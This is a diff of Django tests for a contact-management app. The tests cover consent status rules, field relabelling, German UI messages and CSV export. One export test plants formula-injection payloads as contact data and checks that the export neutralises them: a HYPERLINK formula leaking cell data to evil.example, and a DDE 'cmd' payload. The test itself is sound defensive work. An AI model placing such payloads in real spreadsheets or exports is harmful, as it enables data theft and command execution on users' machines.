@@ -9,8 +9,15 @@ import json
 from django.test import Client
 
 from terminflow.contacts.models import ConsentEvent, Contact, Erasure
-from terminflow.contacts.services import create_contact, create_field, tag_names
+from terminflow.contacts.services import (
+    create_contact,
+    create_field,
+    list_fields,
+    set_email_status,
+    tag_names,
+)
 from terminflow.web.views.contacts import PAGE_SIZE
+from tests.contacts.factories import DOI_PROOF
 
 
 def _emails(response) -> list[str]:
@@ -28,6 +35,7 @@ def test_search_and_filters_narrow_the_list(editor_client: Client, workspace) ->
         workspace,
         email="ben@example.com",
         email_status="confirmed_doi",
+        doi_proof=DOI_PROOF,
         tags=["stamm"],
         fields={"vip": True},
     )
@@ -121,6 +129,58 @@ def test_create_refuses_a_taken_email_and_stores_nothing_new(editor_client, work
     assert Contact.objects.count() == 1
 
 
+DOI_BY_HAND_DE = "den Status „Bestätigt (Double-Opt-in)“ kann niemand von Hand setzen."
+
+
+def test_the_form_cannot_create_a_contact_confirmed_by_doi(editor_client, workspace) -> None:
+    # when
+    page = editor_client.get("/contacts/new/").content.decode()
+    response = editor_client.post(
+        "/contacts/new/",
+        {"email": "lea@example.com", "email_status": "confirmed_doi", "tags": "neu"},
+    )
+    # then
+    assert 'value="confirmed_doi"' not in page
+    assert response.status_code == 422
+    assert DOI_BY_HAND_DE in response.content.decode()
+    assert (Contact.objects.count(), ConsentEvent.objects.count()) == (0, 0)
+
+
+def test_the_form_cannot_move_a_contact_to_confirmed_by_doi(editor_client, workspace) -> None:
+    # given
+    contact = create_contact(workspace, email="anna@example.com", email_status="confirmed_soi")
+    # when
+    page = editor_client.get(f"/contacts/{contact.pk}/edit/").content.decode()
+    response = editor_client.post(
+        f"/contacts/{contact.pk}/edit/",
+        {"email": "anna@example.com", "first_name": "Anna", "email_status": "confirmed_doi"},
+    )
+    # then
+    assert 'value="confirmed_doi"' not in page
+    assert response.status_code == 422
+    assert DOI_BY_HAND_DE in response.content.decode()
+    contact.refresh_from_db()
+    assert (contact.first_name, contact.email_status) == ("", "confirmed_soi")
+    assert ConsentEvent.objects.filter(contact=contact).count() == 1
+
+
+def test_the_form_keeps_a_confirmed_double_opt_in(editor_client, workspace) -> None:
+    # given a contact who confirmed the double opt-in
+    contact = create_contact(workspace, email="anna@example.com")
+    set_email_status(contact, "confirmed_doi", source="doi_link")
+    # when
+    page = editor_client.get(f"/contacts/{contact.pk}/edit/").content.decode()
+    response = editor_client.post(
+        f"/contacts/{contact.pk}/edit/",
+        {"email": "anna@example.com", "first_name": "Anna", "email_status": "confirmed_doi"},
+    )
+    # then
+    assert 'value="confirmed_doi" selected' in page
+    assert response.status_code == 302
+    contact.refresh_from_db()
+    assert (contact.first_name, contact.email_status) == ("Anna", "confirmed_doi")
+
+
 def test_edit_changes_fields_and_replaces_tags(editor_client, workspace) -> None:
     # given
     create_field(workspace, key="city", type="text", label="Ort")
@@ -175,7 +235,9 @@ def test_export_writes_every_matching_contact_with_fields_and_tags(
     # given
     create_field(workspace, key="city", type="text", label="Ort")
     create_contact(workspace, email="anna@example.com", fields={"city": "Bern"}, tags=["b", "a"])
-    create_contact(workspace, email="ben@example.com", email_status="confirmed_doi")
+    create_contact(
+        workspace, email="ben@example.com", email_status="confirmed_doi", doi_proof=DOI_PROOF
+    )
     create_contact(other_workspace, email="foreign@example.com")
     # when
     response = editor_client.get("/contacts/export.csv")
@@ -201,6 +263,40 @@ def test_export_writes_every_matching_contact_with_fields_and_tags(
         csv.reader(io.StringIO(b"".join(filtered.streaming_content).decode("utf-8-sig")))
     )
     assert [r[0] for r in filtered_rows[1:]] == ["ben@example.com"]
+
+
+def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
+    editor_client, workspace
+) -> None:
+    # given values typed by contacts themselves (a form, an eTermin booking)
+    create_field(workspace, key="notiz", type="text", label="Notiz")
+    create_contact(
+        workspace,
+        email="mallory@example.com",
+        first_name='=HYPERLINK("http://evil.example/?"&A1,"Klick")',
+        last_name="-2+3",
+        phone="+41 44 668 18 00",
+        fields={"notiz": "@SUM(1+1)"},
+        tags=["=cmd|' /C calc'!A0"],
+    )
+    create_contact(workspace, email="anna@example.com", first_name="Anna", last_name="a=b")
+    # when
+    response = editor_client.get("/contacts/export.csv")
+    # then every dangerous start gets a leading apostrophe, and nothing else changes
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert [r[:7] for r in rows[1:]] == [
+        ["anna@example.com", "Anna", "a=b", "", "unknown", "", ""],
+        [
+            "mallory@example.com",
+            '\'=HYPERLINK("http://evil.example/?"&A1,"Klick")',
+            "'-2+3",
+            "'+41446681800",
+            "unknown",
+            "'=cmd|' /C calc'!A0",
+            "'@SUM(1+1)",
+        ],
+    ]
 
 
 # -- fields and tags page: rename, relabel, delete ----------------------------------------------
@@ -240,7 +336,7 @@ def test_renaming_a_tag_to_a_taken_name_shows_the_conflict_and_changes_nothing(
         "/fields/", {"action": "rename_tag", "name": "vip", "new_name": "gold"}, follow=True
     )
     # then
-    assert _page_messages(response) == ["A tag called 'gold' already exists."]
+    assert _page_messages(response) == ["Ein Tag namens 'gold' existiert bereits."]
     assert tag_names(contact) == ["gold", "vip"]
 
 
@@ -303,8 +399,8 @@ def test_deleting_a_field_an_active_campaign_uses_is_refused(
     )
     # then
     assert _page_messages(response) == [
-        "The field 'city' is used by the campaigns: Recall. "
-        "Remove it from them or set them to draft first."
+        "Das Feld 'city' wird von diesen Kampagnen verwendet: Recall. "
+        "Entfernen Sie es dort oder setzen Sie die Kampagnen zuerst auf Entwurf."
     ]
     assert [f.key for f in response.context["fields"]] == ["city"]
     contact.refresh_from_db()
@@ -343,7 +439,8 @@ def test_editor_sees_the_manage_forms(editor_client: Client, workspace) -> None:
     html = editor_client.get("/fields/").content.decode()
     assert html.count('value="rename_tag"') == 1
     assert html.count('value="delete_tag"') == 1
-    assert html.count('value="relabel_field"') == 1
+    assert html.count('name="label:city"') == 1
+    assert html.count('value="save"') == 1
     assert html.count('value="delete_field"') == 1
 
 
@@ -371,6 +468,100 @@ def test_unknown_action_is_400(editor_client: Client, workspace) -> None:
     response = editor_client.post("/fields/", {"action": "explode", "name": "vip"})
     assert response.status_code == 400
     assert _workspace_tags(workspace) == ["vip"]
+
+
+def test_one_save_relabels_fields_and_adds_a_field_with_a_key_made_from_its_label(
+    editor_client: Client, workspace
+) -> None:
+    # given
+    create_field(workspace, key="city", type="text", label="City")
+    # when the page is saved once with a new label and a new field without a key
+    response = editor_client.post(
+        "/fields/",
+        {
+            "action": "save",
+            "label:city": "Wohnort",
+            "new-label": "Terminbeginn (Praxis Zürich)",
+            "new-key": "",
+            "new-type": "datetime",
+            "new-options": "",
+        },
+        follow=True,
+    )
+    # then
+    assert [(f.key, f.label, f.type) for f in response.context["fields"]] == [
+        ("city", "Wohnort", "text"),
+        ("terminbeginn_praxis_zuerich", "Terminbeginn (Praxis Zürich)", "datetime"),
+    ]
+    assert _page_messages(response) == [
+        "Das Feld Terminbeginn (Praxis Zürich) wurde erstellt.",
+        "1 Bezeichnung wurde gespeichert.",
+    ]
+
+
+def test_a_refused_new_field_keeps_the_relabels_unsaved(editor_client: Client, workspace) -> None:
+    # given a field whose key the new one would take
+    create_field(workspace, key="city", type="text", label="City")
+    # when
+    response = editor_client.post(
+        "/fields/",
+        {
+            "action": "save",
+            "label:city": "Wohnort",
+            "new-label": "x",
+            "new-key": "city",
+            "new-type": "text",
+        },
+    )
+    # then nothing is stored, and the typed label is still in the form
+    assert response.status_code == 422
+    assert [(f.key, f.label) for f in list_fields(workspace)] == [("city", "City")]
+    assert 'value="Wohnort"' in response.content.decode()
+
+
+def test_key_from_label() -> None:
+    from terminflow.web.forms import key_from_label
+
+    assert key_from_label("Terminbeginn") == "terminbeginn"
+    assert key_from_label("Größe in cm") == "groesse_in_cm"
+    assert key_from_label("2. Termin") == "f_2_termin"
+    assert key_from_label("Café – Ort") == "cafe_ort"
+
+
+def test_contact_page_formats_phone_and_reads_the_consent_ledger_as_sentences(
+    editor_client: Client, workspace
+) -> None:
+    # given a contact created from an eTermin booking
+    from terminflow.contacts.services import contact_from_booking
+    from terminflow.etermin.services import connect_account
+
+    account = connect_account(
+        workspace, name="Praxis Seefeld", public_key="p", private_key="k", verify=False
+    )
+    contact, _ = contact_from_booking(
+        workspace,
+        email="lea@example.com",
+        first_name="Lea",
+        last_name="Brunner",
+        phone="+41446681800",
+        source="etermin",
+        details={
+            "account_id": account.pk,
+            "appointment_uid": "u-1",
+            "calendar_name": "Zahnreinigung",
+            "calendar_id": 211614,
+        },
+    )
+    # when
+    html = editor_client.get(f"/contacts/{contact.pk}/").content.decode()
+    # then
+    assert '<dd data-testid="contact-phone">044 668 18 00</dd>' in html
+    assert (
+        "Single-Opt-in über eTermin-Buchung, Kalender «Zahnreinigung», Konto «Praxis Seefeld»."
+        in html
+    )
+    assert "appointment_uid" not in html
+    assert "calendar_id=" not in html
 
 
 def test_contact_page_offers_export_and_erase_to_editors_only(
